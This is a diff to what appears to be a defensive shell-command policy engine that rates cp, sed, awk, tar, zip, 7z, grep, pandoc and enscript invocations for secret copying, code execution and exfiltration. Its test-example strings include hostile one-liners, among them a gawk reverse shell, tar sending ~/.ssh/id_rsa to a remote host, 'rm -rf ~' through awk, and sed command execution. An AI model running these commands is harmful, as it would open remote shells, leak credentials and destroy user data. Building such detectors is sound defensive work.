@@ -4,9 +4,10 @@ path tables); the rows here say only what the program does."""
 from __future__ import annotations
 
 from wispsh.policy import places
+from wispsh.policy.scripts import script_file
 from wispsh.programs.grammar import UNKNOWN
-from wispsh.programs.table import (DEST, FIRST, HERE, OPERANDS, REST, SOURCES, Grammar, On, Program, Row,
-                                   When, emits, programs)
+from wispsh.programs.table import (ALWAYS, DEST, FIRST, HERE, OPERANDS, REST, SOURCES, Grammar, On, Program,
+                                   Row, When, emits, programs)
 from wispsh.support.lazyre import lazy_re, re
 
 RECURSIVE = When(flag=("r", "R", "recursive"))
@@ -39,24 +40,30 @@ RMDIR = Program(
 )
 
 
-@emits({"cp.secret": ["cp ~/.ssh/id_rsa /tmp/k"]})
+@emits({"cp.secret": ["cp ~/.ssh/id_rsa /tmp/k", "cp -r ~ /tmp/x"]})
 def copies_secrets(cmd, o) -> None:
-    """A secret copied somewhere a later upload or push can take it from."""
+    """A secret copied somewhere a later upload or push can take it from (a whole tree that holds a secret
+    store, copied recursively, copies the store)."""
     sources = [w for w in o.operands[:-1]] if o.value("t", "target-directory") is None else list(o.operands)
+    recursive = o.has(*CP_RECURSIVE.flag)
     for word in sources:
         where = cmd.place(word)
-        if where.cls == places.SECRET:
+        store = places.store_under(where, cmd.ctx) if recursive and where.cls != places.SECRET else None
+        if where.cls == places.SECRET or store:
             cmd.facts.secret_copy = True
-            cmd.does("secret", "cp.secret", f"copies {where.path} (secrets)")
+            cmd.does("secret", "cp.secret", f"copies {store or where.path} (secrets)")
 
 
-COPY_GRAMMAR = Grammar(values="tS", long_values=("target-directory", "suffix"))
+COPY_GRAMMAR = Grammar(values="tS", long_values=("target-directory", "suffix"),
+                       longs=("recursive", "archive", "dereference", "no-dereference", "force", "interactive"))
+CP_RECURSIVE = When(flag=("r", "R", "a", "recursive", "archive"))
 
 CP = Program(
     "cp", doc="copies files; the destination is judged by where each source lands",
     grammar=COPY_GRAMMAR,
     rows=(Row("cp.copies", "change", "copies files", examples=("cp a b",)),),
-    on=(On("read", SOURCES, id="cp.sources", examples=("cp ~/.bashrc bak",)),
+    on=(On("read", SOURCES, id="cp.sources", recursive=CP_RECURSIVE,
+           examples=("cp ~/.bashrc bak", "cp -r ~/.config /tmp/c")),
         On("write", DEST, into=True, id="cp.dest", examples=("cp evil ~/.bashrc", "cp .bashrc ~", "cp a b"))),
     hook=copies_secrets,
     examples={"cp evil ~/.bashrc": "dangerous", "cp a b": "moderate", "cp hook .git/hooks/pre-commit": "dangerous"},
@@ -362,23 +369,36 @@ def _sed_segments(line: str) -> list[str]:
 
 @emits({"sed.subst-exec": ["sed 's/x/id/e' f"], "sed.subst-write": ["sed 's/a/b/w ~/.bashrc' f"],
         "sed.exec": ["sed '1e id' f"], "sed.write": ["sed -n 'w ~/.bashrc' f"], "sed.read": ["sed 'r ~/.ssh/id_rsa' f"],
-        "sed.runtime-script": ['sed "s/a/$X/" f']})
+        "sed.runtime-script": ['sed "s/a/$X/" f'], "sed.script-file": ["sed -f edits.sed f"],
+        "sed.sandbox": ["sed --sandbox -f x.sed f"]})
 def sed_script(cmd, o) -> None:
     """Read a sed script command by command: e runs commands, w writes files, r reads them. Without -e/-f the
-    first operand is the script; the rest are files (edited in place with -i)."""
+    first operand is the script; the rest are files (edited in place with -i). `-f FILE` runs FILE's script: its
+    text is judged when the gate can read it (policy/scripts.script_file). --sandbox turns e, w and r off."""
     scripts = o.all("e", "expression")
+    files = o.all("f", "file")
     operands = list(o.operands)
-    if not scripts and not o.all("f", "file") and operands:
-        scripts = [operands.pop(0)]
-        if scripts == [""] and operands:       # BSD `sed -i '' SCRIPT FILE`: the '' is -i's suffix
-            scripts = [operands.pop(0)]
-    for script in o.all("f", "file"):
-        cmd.read(script)
-    if scripts:
-        _sed_commands(cmd, "\n".join(scripts))    # GNU sed joins -e scripts with newlines
     in_place = o.has("i", "in-place") or any(a.startswith("-i") or (a.startswith("-") and not a.startswith("--")
                                                                     and "i" in a[1:]) for a in o.args
-                                             if a not in scripts)
+                                             if a not in scripts and a not in files)
+    if not scripts and not files and operands:
+        scripts = [operands.pop(0)]
+        if scripts == [""] and operands and in_place:   # BSD `sed -i '' SCRIPT FILE`: the '' is -i's suffix
+            scripts = [operands.pop(0)]
+    runs_input = []
+    if o.has("sandbox"):
+        cmd.fired.add("sed.sandbox")        # e, w and r are refused: the script runs, writes and reads nothing
+    else:
+        for script in files:
+            script_file(cmd, script, "sed runs", lambda text: runs_input.append(_sed_commands(cmd, text)),
+                        "sed.script-file")
+        if scripts:
+            runs_input.append(_sed_commands(cmd, "\n".join(scripts)))    # GNU sed joins -e scripts with newlines
+    if any(runs_input):     # `e` alone, `s///e`: the lines it reads run as commands (GTFOBins' `sed e`)
+        if operands:
+            cmd.facts.runs.extend(cmd.place(word).path for word in operands)
+        else:
+            cmd.facts.stdin_interp = True
     for word in operands:
         if in_place:
             cmd.write(word, "edits")
@@ -386,7 +406,10 @@ def sed_script(cmd, o) -> None:
             cmd.read(word)
 
 
-def _sed_commands(cmd, script: str) -> None:
+def _sed_commands(cmd, script: str) -> bool:
+    """The script's commands judged; True when it runs what it reads (`e` with no command runs the pattern
+    space, `s///e` the result of the substitution)."""
+    runs_input = False
     for line in _sed_code_only(script).split("\n"):
         for segment in _sed_segments(line):
             body = _SED_ADDRESS.sub("", segment, count=1).lstrip("{").strip()
@@ -400,11 +423,13 @@ def _sed_commands(cmd, script: str) -> None:
                 flags, target = m.group(2), m.group(3).strip()
                 if "e" in flags:
                     cmd.does("run-code", "sed.subst-exec", "sed runs the result as a command (s///e)")
+                    runs_input = True
                 if "w" in flags and target:
                     cmd.fired.add("sed.subst-write")
                     cmd.write(target, "sed writes")
             elif command == "e":
                 cmd.does("run-code", "sed.exec", "sed runs a command (e)")
+                runs_input = runs_input or not rest
             elif command in "wW" and rest:
                 cmd.fired.add("sed.write")
                 cmd.write(rest, "sed writes")
@@ -413,11 +438,14 @@ def _sed_commands(cmd, script: str) -> None:
                 cmd.read(rest)
             if UNKNOWN in body:
                 cmd.does("change", "sed.runtime-script", "sed script has text known only at run time")
+    return runs_input
 
 
 SED = Program(
     "sed", aliases=("gsed",), doc="edits text; -i rewrites files in place; its script can write, read and run",
     grammar=Grammar(values="efl", long_values=("expression", "file", "line-length", "in-place"),
+                    longs=("sandbox", "quiet", "silent", "debug", "posix", "regexp-extended", "separate",
+                           "null-data", "zero-terminated", "unbuffered", "follow-symlinks"),
                     optional=("in-place",)),
     hook=sed_script,
     examples={"sed -n 1,20p f": "safe", "sed -i s/a/b/ src/x.py": "moderate", "sed -i s/a/b/ ~/.bashrc": "dangerous"},
@@ -435,9 +463,12 @@ _AWK_CODE = lazy_re(r"\bsystem\s*\(|\|\s*&|\|\s*getline|@load|\benviron\b", re.I
         "awk.network": ["gawk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print \"GET /\" |& s; s |& getline l; print l}'"],
         "awk.reverse-shell": ["gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";for(;s|&getline c;close(c))"
                               "while(c|getline)print|&s;close(s)}'"],
-        "awk.runs-input": ["awk '{system($0)}'", "awk '{print | \"sh\"}' f", "awk '{ $0 | getline x }'"]})
+        "awk.runs-input": ["awk '{system($0)}'", "awk '{print | \"sh\"}' f", "awk '{ $0 | getline x }'"],
+        "awk.program-text": ["gawk --source 'BEGIN{system(\"id\")}'", "gawk -e 'BEGIN{print 1}'"],
+        "awk.command-text": ["awk 'BEGIN{system(\"rm -rf ~\")}'", "awk '{print | \"sh -c id\"}' f"]})
 def awk_program(cmd, o) -> None:
-    """The program (first operand, or -f FILE) says what awk writes, pipes into or runs."""
+    """The program (first operand, `-e`/`--source TEXT`, or `-f FILE`: its text judged when the gate can read it)
+    says what awk writes, pipes into or runs."""
     operands = list(o.operands)
     edits = False
     for loaded in o.all("l", "load", "i", "include"):
@@ -446,25 +477,18 @@ def awk_program(cmd, o) -> None:
             continue
         cmd.does("run-code", "awk.loads", f"awk loads {loaded}")
     programs_ = o.all("f", "file", "E", "exec")
-    if programs_:
+    texts = o.all("e", "source")
+    files = [w for w in operands if "=" not in w and w != "-"]
+    if not programs_ and not texts and operands:
+        texts = [operands.pop(0)]
+        files = [w for w in operands if "=" not in w and w != "-"]
+    elif texts:
+        cmd.fired.add("awk.program-text")
+    for program in programs_:
         cmd.fired.add("awk.program-file")
-        for program in programs_:
-            cmd.run_file(program, "awk runs")
-    elif operands:
-        program = operands.pop(0)
-        if UNKNOWN in program:
-            cmd.does("run-code", "awk.runtime-program", "awk program known only at run time")
-        elif "/inet" in program and _awk_network(cmd, program):
-            pass
-        elif _awk_effects(cmd, program):
-            # `curl … | awk '{system($0)}'`: an interpreter of what it reads, its input or its files
-            files = [w for w in operands if "=" not in w and w != "-"]
-            cmd.fired.add("awk.runs-input")
-            if files and not edits:
-                for word in files:
-                    cmd.facts.runs.append(cmd.place(word).path)
-            else:
-                cmd.facts.stdin_interp = True
+        script_file(cmd, program, "awk runs", lambda text: _awk_text(cmd, text, files, edits), "awk.program-file")
+    for text in texts:
+        _awk_text(cmd, text, files, edits)
     for word in operands:
         if "=" not in word:
             if edits:
@@ -472,6 +496,22 @@ def awk_program(cmd, o) -> None:
                 cmd.write(word, "awk -i inplace edits")
             else:
                 cmd.read(word)
+
+
+def _awk_text(cmd, program: str, files, edits: bool) -> None:
+    """One awk program's text: what it writes, pipes into, runs, and whether it runs what it reads."""
+    if UNKNOWN in program:
+        cmd.does("run-code", "awk.runtime-program", "awk program known only at run time")
+    elif "/inet" in program and _awk_network(cmd, program):
+        pass
+    elif _awk_effects(cmd, program):
+        # `curl … | awk '{system($0)}'`: an interpreter of what it reads, its input or its files
+        cmd.fired.add("awk.runs-input")
+        if files and not edits:
+            for word in files:
+                cmd.facts.runs.append(cmd.place(word).path)
+        else:
+            cmd.facts.stdin_interp = True
 
 
 # What makes awk an interpreter of its input: a command built from what it reads (`system($0)`, `system("x " $1)`,
@@ -534,13 +574,24 @@ def _awk_effects(cmd, program: str) -> bool:
     runs = _AWK_CODE.search(code) or re.search(r'""\s*\|', code)
     if runs:
         cmd.does("run-code", "awk.runs", "awk program runs commands")
+    if runs or "|" in program:
+        # the commands it spells out (`system("…")`, `"…" | getline`, `print | "…"`) are shell code it can read
+        for literal in _AWK_COMMANDS.findall(program):
+            text = next(t for t in literal if t)
+            if UNKNOWN not in text:
+                cmd.fired.add("awk.command-text")
+                cmd.code_text(text.encode().decode("unicode_escape", "replace"), "awk runs")
     return bool(runs or "|" in program) and _awk_runs_input(program)
+
+
+_AWK_COMMANDS = lazy_re(r'\bsystem\s*\(\s*"((?:\\.|[^"\\])*)"\s*\)|"((?:\\.|[^"\\])*)"\s*\|&?\s*getline'
+                        r'|\|&?\s*"((?:\\.|[^"\\])*)"')
 
 
 AWK = Program(
     "awk", aliases=("gawk", "mawk", "nawk", "busybox-awk"), doc="runs an awk program over text",
-    grammar=Grammar(values="fvFiEl", long_values=("file", "assign", "field-separator", "include", "exec", "load",
-                                                  "source")),
+    grammar=Grammar(values="fvFiEle", long_values=("file", "assign", "field-separator", "include", "exec", "load",
+                                                   "source")),
     hook=awk_program,
     examples={"awk '{print $1}' f": "safe", "awk 'BEGIN {print \"system(x)\"}'": "safe"},
 )
@@ -603,6 +654,9 @@ def find_expression(cmd, o) -> None:
     for start in starts:
         where = cmd.place(start)
         found = start.rstrip("/") + "/" + leaf if start not in ("/",) else "/" + leaf
+        store = places.store_under(where, cmd.ctx) if leaf == "*" else None
+        if store is not None:
+            found = store + "/*"        # what it finds under a tree that holds a secret store: the store's files too
         cmd.facts.found_under.append(found)
         cmd.facts.names.append(found)       # what it prints, for `| xargs cmd`
         if deleting and filtered and where.cls in (places.PROJECT, places.PROJECT_ROOT, places.TEMP):
@@ -642,6 +696,12 @@ TAR_LONG_VALUES = ("file", "directory", "to-command", "use-compress-program", "i
 TAR_GRAMMAR = Grammar(values=TAR_SHORT_VALUES, long_values=TAR_LONG_VALUES)
 
 
+def _remote_archive(archive: str) -> bool:
+    """GNU tar's `[user@]host:file` archive: on another machine (a colon before any slash)."""
+    head = archive.split("/", 1)[0]
+    return ":" in head and not archive.startswith(("/", ".", "~")) and UNKNOWN not in head
+
+
 def _archives_secrets(cmd, where, archive: str | None) -> None:
     if where.cls in (places.HOME, places.ROOT, places.ANCESTOR, places.SECRET, places.PROJECT_SECRET):
         cmd.facts.secret_source = cmd.facts.secret_source or f"archives {where.cls}"
@@ -649,6 +709,7 @@ def _archives_secrets(cmd, where, archive: str | None) -> None:
 
 
 @emits({"tar.removes": ["tar -cf /dev/null . --remove-files"],
+        "tar.remote-archive": ["tar cvf user@host:/tmp/x.tar ~/.ssh/id_rsa --rsh-command=/bin/ssh"],
         "tar.extracts": ["tar -xzf a.tgz"], "tar.extracts-over": ["tar -xf a.tar -C /"],
         "tar.creates": ["tar -czf out.tgz src"], "tar.reads": ["tar -tf a.tar"]})
 def tar_archive(cmd, o) -> None:
@@ -668,13 +729,20 @@ def tar_archive(cmd, o) -> None:
             cmd.read(archive)
     elif o.has("c", "create", "r", "append", "u", "update", "A", "concatenate"):
         cmd.does("create", "tar.creates", "creates an archive")
+        base = o.value("C", "directory")
+        if archive and _remote_archive(archive) and not o.has("force-local"):
+            # `tar cf host:/x.tar F` writes the archive on another machine (through rsh/ssh): F leaves
+            cmd.fired.add("tar.remote-archive")
+            for word in o.operands:
+                cmd.send(word if base is None or word.startswith(("/", "~")) else f"{base}/{word}",
+                         "archives to another machine")
+            return None
         if archive and archive != "-":
             cmd.write(archive)
-        base = o.value("C", "directory")
         removes = o.has("remove-files")
         for word in o.operands:
             path = word if base is None or word.startswith(("/", "~")) else f"{base}/{word}"
-            where = cmd.read(path, "archives")
+            where = cmd.read(path, "archives") if o.has("no-recursion") else cmd.embed(path, "archives", True)
             _archives_secrets(cmd, where, archive)
             if removes:                 # --remove-files deletes what it archived
                 cmd.fired.add("tar.removes")
@@ -707,7 +775,8 @@ TAR = Program(
 
 
 @emits({"zip.test-command": ["zip -T -TT 'sh -c id' a.zip f"], "zip.tests": ["zip -T a.zip"],
-        "zip.creates": ["zip -r out.zip src"]})
+        "zip.creates": ["zip -r out.zip src"], "zip.encrypts": ["zip -e out.zip f", "zip -P pw out.zip f"],
+        "zip.moves": ["zip -m out.zip f"]})
 def zip_archive(cmd, o) -> None:
     if o.value("TT", "unzip-command") is not None or "-TT" in o.args:
         cmd.does("run-code", "zip.test-command", "zip runs a test command (-TT)")
@@ -716,17 +785,24 @@ def zip_archive(cmd, o) -> None:
         cmd.read(o.operands[0])       # `zip -T a.zip` tests the archive
         return
     cmd.does("create", "zip.creates", "creates an archive")
+    if o.has("e", "encrypt") or o.value("P", "password") is not None:
+        cmd.fired.add("zip.encrypts")
+        cmd.facts.encrypts = True
     if o.operands:
         archive = o.operands[0]
         if archive != "-":
             cmd.write(archive)
         for word in o.operands[1:]:
-            _archives_secrets(cmd, cmd.read(word, "archives"), archive)
+            _archives_secrets(cmd, cmd.embed(word, "archives", o.has("r", "R", "recurse-paths")), archive)
+            if o.has("m", "move"):      # -m: the originals are deleted once archived
+                cmd.fired.add("zip.moves")
+                cmd.delete(word, recursive=o.has("r", "recurse-paths"))
 
 
 ZIP = Program("zip", doc="creates zip archives",
               grammar=Grammar(values="tbnxiPZ", long_values=("unzip-command", "temp-path", "password", "exclude",
-                                                             "include", "suffixes")),
+                                                             "include", "suffixes"),
+                              longs=("encrypt", "move", "recurse-paths")),
               hook=zip_archive)
 
 UNZIP = Program(
@@ -743,7 +819,8 @@ UNZIP = Program(
 
 
 @emits({"7z.reads": ["7z l a.7z"], "7z.extracts": ["7z x a.7z"], "7z.extracts-over": ["7z x a.7z -o/"],
-        "7z.changes": ["7z a out.7z src"]})
+        "7z.changes": ["7z a out.7z src"], "7z.encrypts": ["7z a -psecret out.7z src"],
+        "7z.moves": ["7z a -sdel out.7z src"]})
 def sevenzip_verbs(cmd, o) -> None:
     """7z/7za/7zz: `x`/`e` extract (-oDIR), `a`/`u`/`d` change an archive, `l`/`t` only read."""
     verb = o.args[0] if o.args else ""
@@ -764,10 +841,16 @@ def sevenzip_verbs(cmd, o) -> None:
             cmd.read(word)
         return
     cmd.does("change", "7z.changes", f"{cmd.name} {verb} changes an archive")
+    if any(a.startswith("-p") for a in rest):
+        cmd.fired.add("7z.encrypts")
+        cmd.facts.encrypts = True
     if operands:
         cmd.write(operands[0])
         for word in operands[1:]:
-            _archives_secrets(cmd, cmd.read(word, "archives"), operands[0])
+            _archives_secrets(cmd, cmd.embed(word, "archives", True), operands[0])
+            if "-sdel" in rest:         # the originals are deleted once archived
+                cmd.fired.add("7z.moves")
+                cmd.delete(word, recursive=True)
 
 
 SEVENZIP = Program("7z", aliases=("7za", "7zz", "7zr"), doc="7-Zip archives", hook=sevenzip_verbs)
@@ -845,13 +928,29 @@ LISTERS = frozenset({"ls", "tree", "du", "stat", "readlink", "realpath", "getfac
                      "eza", "dust", "file"})
 
 
+@emits({"bat.pager": ["bat --pager 'sh -c id' f", "bat --pager 'less -RF' f"]})
+def bat_pager(cmd, o) -> None:
+    """bat --pager CMD: the pager it runs on its output (a plain pager shows it; any other command runs)."""
+    from wispsh.programs.config_code import runs_command_option
+
+    runs_command_option(cmd, o.all("pager"), "bat.pager", cmd.name)
+
+
 def _reader(name: str, values: str) -> Program:
     writes = (On("write", ("option", "o", "output"), id=f"{name}.output", examples=(f"{name} -o out.txt f",)),) \
         if name in ("iconv", "shuf") else ()
+    pager = name in ("bat", "batcat")
     action, what = ("list", "lists") if name in LISTERS else ("read", "reads")
+    recursive = When(flag=("r", "recursive")) if name == "diff" else None     # diff -r compares whole trees
+    if name == "file":      # -f F names the files to look at, -m F is a magic file: F's lines are echoed
+        writes += (On("read", ("option", "f", "files-from", "m", "magic-file"), id="file.reads-list",
+                      examples=("file -f ~/.ssh/id_rsa",)),)
     return Program(name, doc=f"{name}: {what} the files it is given",
-                   grammar=Grammar(values=values, long_values=READER_LONG_VALUES),
-                   on=(On(action, OPERANDS, id=f"{name}.{what}", examples=(f"{name} README.md",)),) + writes)
+                   grammar=Grammar(values=values, long_values=READER_LONG_VALUES + (("pager",) if pager else ())),
+                   hook=bat_pager if pager else None,
+                   on=(On(action, OPERANDS, id=f"{name}.{what}", recursive=recursive,
+                          examples=(f"{name} README.md",) + ((f"{name} -r ~ /tmp/copy",) if recursive else ())),)
+                   + writes)
 
 
 READER_PROGRAMS = tuple(_reader(name, values) for name, values in READERS.items() if name != "csplit")
@@ -869,22 +968,41 @@ SEARCH_LONG_VALUES = ("regexp", "file", "glob", "max-count", "after-context", "b
 PATTERN_GIVEN = ("e", "regexp", "f", "file")
 
 
-@emits({"search.pre": ["rg --pre ./x foo ."]})
+@emits({"search.pre": ["rg --pre ./x foo ."], "search.recurse-option": ["grep -d recurse AKIA ~"]})
 def preprocessor(cmd, o) -> None:
-    """rg --pre PROGRAM runs PROGRAM on every file it searches; an empty value turns it off."""
+    """rg --pre PROGRAM runs PROGRAM on every file it searches; an empty value turns it off. grep's `-d recurse`
+    (`--directories=recurse`) is -r: its directories are read as whole trees."""
     pre = o.value("pre")
     if pre:
         cmd.does("run-code", "search.pre", f"{cmd.name} --pre runs {pre.replace(UNKNOWN, '…')} on every file")
+    if o.value("d", "directories") == "recurse" and cmd.name in RECURSES_WITH_R:
+        cmd.fired.add("search.recurse-option")
+        for word in o.operands[0 if o.value(*PATTERN_GIVEN) is not None else 1:]:
+            cmd.read_tree(word, "searches")
+
+
+# Which searchers read whole trees: grep and its kin with -r; rg, ag, ack and git grep always. rg and ag skip
+# dot-named entries (where the stores of your home are) unless told otherwise.
+RECURSES_WITH_R = frozenset({"grep", "egrep", "fgrep", "zgrep"})
+GREP_RECURSIVE = When(flag=("r", "R", "recursive", "dereference-recursive"))
+SEARCH_HIDDEN = {"rg": (When(flag=("hidden", ".")), When(count=(("u", "unrestricted"), 2))),
+                 "ag": (When(flag=("hidden", "u", "unrestricted")),)}
 
 
 def _searcher(name: str, values: str) -> Program:
+    recursive = GREP_RECURSIVE if name in RECURSES_WITH_R else ALWAYS
+    hidden = SEARCH_HIDDEN.get(name)
+    tree = f"{name} -r" if name in RECURSES_WITH_R else name
     return Program(name, doc=f"{name}: searches files for a pattern",
-                   grammar=Grammar(values=values, long_values=SEARCH_LONG_VALUES),
+                   grammar=Grammar(values=values, long_values=SEARCH_LONG_VALUES,
+                                   longs=("recursive", "dereference-recursive", "hidden", "unrestricted")),
                    on=(On("read", ("option", "f", "file"), id=f"{name}.pattern-file",
                           examples=(f"{name} {'-f' if 'f' in values else '--file'} pats.txt src",)),
                        On("read", REST, says="searches", when=When(no_value=PATTERN_GIVEN), id=f"{name}.files",
-                          examples=(f"{name} foo src",)),
+                          recursive=recursive, hidden=hidden,
+                          examples=(f"{name} foo src", f"{tree} AKIA ~")),
                        On("read", OPERANDS, says="searches", when=When(value=PATTERN_GIVEN), id=f"{name}.files-e",
+                          recursive=recursive, hidden=hidden,
                           examples=(f"{name} {'-e' if 'e' in values else '--regexp'} foo src",))),
                    hook=preprocessor)
 
@@ -931,6 +1049,60 @@ PATCH = Program(
 )
 
 
+@emits({"pandoc.filter": ["pandoc --filter pandoc-crossref a.md -o a.pdf"],
+        "pandoc.filter-file": ["pandoc --filter ./f.py a.md", "pandoc --lua-filter /tmp/f.lua a.md"],
+        "pandoc.defaults": ["pandoc -d /tmp/d.yaml a.md"]})
+def pandoc_filters(cmd, o) -> None:
+    """--filter PROG runs PROG on the document (a bare name is a program found on PATH or in pandoc's data
+    directory; a path is that file), --lua-filter runs a Lua script, --defaults reads options (filters among
+    them) from a file the gate does not read."""
+    for program in o.all("F", "filter"):
+        if "/" in program or UNKNOWN in program:
+            cmd.fired.add("pandoc.filter-file")
+            cmd.run_file(program, "pandoc --filter runs")
+        else:
+            cmd.does("run-project", "pandoc.filter", f"pandoc runs the filter program {program}")
+    for script in o.all("L", "lua-filter"):
+        cmd.fired.add("pandoc.filter-file")
+        cmd.run_file(script, "pandoc --lua-filter runs")
+    for defaults in o.all("d", "defaults"):
+        cmd.does("run-code", "pandoc.defaults", f"pandoc takes its options from {defaults.replace(UNKNOWN, '…')}, "
+                                                "which can name filters it runs")
+
+
+PANDOC = Program(
+    "pandoc", doc="converts documents; filters it is given run, and files it includes go into the output",
+    grammar=Grammar(values="fFLtroHBAdVMc", long_values=(
+        "from", "to", "read", "write", "output", "filter", "lua-filter", "defaults", "include-in-header",
+        "include-before-body", "include-after-body", "template", "metadata-file", "variable", "metadata", "css",
+        "data-dir", "resource-path", "extract-media", "reference-doc", "bibliography", "csl", "citation-abbreviations",
+        "syntax-definition", "highlight-style", "abbreviations", "epub-cover-image", "epub-metadata",
+        "epub-embed-font", "log", "pdf-engine", "pdf-engine-opt")),
+    rows=(Row("pandoc.pdf-engine", "run-code", "pandoc runs the PDF engine program it is given",
+              When(value=("pdf-engine",), unless=()), examples=("pandoc --pdf-engine=./x a.md -o a.pdf",)),),
+    on=(On("read", OPERANDS, id="pandoc.inputs", examples=("pandoc a.md -o a.html",)),
+        On("embed", ("option", "H", "include-in-header", "B", "include-before-body", "A", "include-after-body",
+                     "metadata-file", "template", "css", "bibliography", "syntax-definition", "abbreviations"),
+           id="pandoc.includes", says="puts into the document the contents of",
+           examples=("pandoc -H ~/.ssh/id_rsa a.md -o a.html",)),
+        On("write", ("option", "o", "output", "log", "extract-media"), id="pandoc.output",
+           examples=("pandoc a.md -o ~/.bashrc",))),
+    hook=pandoc_filters,
+    examples={"pandoc README.md -o README.html": "moderate", "pandoc -H ~/.ssh/id_rsa a.md -o a.html": "high"},
+)
+
+
+ENSCRIPT = Program(
+    "enscript", doc="formats text for printing; -I runs an input filter command",
+    grammar=Grammar(values="oIpPMcfFLNtTsuUvX", long_values=("output", "filter", "printer", "media", "font",
+                                                             "header-font", "title", "encoding")),
+    rows=(Row("enscript.filter", "run-code", "enscript runs the input filter command it is given",
+              When(value=("I", "filter")), examples=("enscript -I '/bin/sh >&2' /dev/null",)),),
+    on=(On("write", ("option", "o", "p", "output"), id="enscript.output", examples=("enscript -o ~/.bashrc x",)),
+        On("read", OPERANDS, id="enscript.reads", examples=("enscript notes.txt",))),
+)
+
+
 @emits({"split.filter": ["split --filter='sh -c x' f"], "split.writes": ["split -l 10 f part-"],
         "csplit.writes": ["csplit f 10"]})
 def split_outputs(cmd, o) -> None:
@@ -971,5 +1143,5 @@ def _normalize(path: str) -> str:
 PROGRAMS = programs(
     RM, RMDIR, CP, MV, LN, INSTALL, DD, SHRED, TRUNCATE, SPONGE, TEE, TOUCH, MKDIR, MKFIFO, CHMOD, CHOWN, CHATTR, SORT,
     UNIQ, SED, AWK, FIND, TAR, ZIP, UNZIP, SEVENZIP, XXD, BASE64, *COMPRESSORS, *READER_PROGRAMS, *NAMER_PROGRAMS,
-    *SEARCHER_PROGRAMS, JQ, YQ, PATCH, SPLIT, CSPLIT,
+    *SEARCHER_PROGRAMS, JQ, YQ, PATCH, SPLIT, CSPLIT, PANDOC, ENSCRIPT,
 )
